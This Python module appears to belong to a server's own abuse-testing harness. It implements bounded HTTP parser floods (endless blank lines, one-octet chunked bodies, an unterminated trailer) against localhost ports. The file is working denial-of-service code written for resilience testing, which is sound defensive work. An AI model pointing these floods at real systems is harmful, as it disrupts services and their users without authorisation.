"""Attacks on the HTTP parser: bytes that cost more to parse than to send, without a valid token.

`attacker.py` runs them, like those of `http_attacks`. They are bounded in bytes and in time.
"""

from __future__ import annotations

import asyncio
import contextlib
import time
from collections import Counter

from abuse.http_attacks import SOURCE, AttackScale, Ports

CONNECTIONS = 4
BODY = b"POST /v1/commands HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n\r\n"
PAUSE = 0.02
"""Seconds after a connection that was refused: new ones are another attack."""


async def _poured(ports: tuple[int, ...], scale: AttackScale, head: bytes, block: bytes, full: int) -> Counter[str]:
    """Send `head` and then `block`, again and again, over and over on new connections, `full` octets at most."""
    tried: Counter[str] = Counter()
    left = scale.count(full)
    end = time.monotonic() + scale.seconds

    async def pour(port: int) -> None:
        nonlocal left
        while left > 0 and time.monotonic() < end:
            tried["connections"] += 1
            with contextlib.suppress(OSError, TimeoutError):
                async with asyncio.timeout(end - time.monotonic()):
                    _, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(SOURCE, 0))
                    try:
                        writer.write(head)
                        while left > 0:
                            writer.write(block)
                            await writer.drain()
                            left -= len(block)
                    finally:
                        writer.transport.abort()
            await asyncio.sleep(PAUSE)

    await asyncio.gather(*(pour(port) for port in ports for _ in range(CONNECTIONS)))
    tried["MB"] = (scale.count(full) - max(left, 0)) // 1_000_000
    return tried


async def empty_lines(ports: Ports, scale: AttackScale) -> Counter[str]:
    """Nothing but empty lines, which a server has to skip in front of a request (RFC 9112 §2.2)."""
    return await _poured((ports.link, ports.api, ports.admin), scale, b"", b"\r\n" * 32_768, 200_000_000)


async def tiny_chunks(ports: Ports, scale: AttackScale) -> Counter[str]:
    """A body in chunks of one octet: six octets for each, and a turn of the parser."""
    return await _poured((ports.api,), scale, BODY, b"1\r\nx\r\n" * 10_000, 200_000_000)


async def endless_trailer(ports: Ports, scale: AttackScale) -> Counter[str]:
    """A trailer field that goes on, behind a body that has ended."""
    return await _poured((ports.api,), scale, BODY + b"0\r\na: ", b"x" * 65_536, 200_000_000)
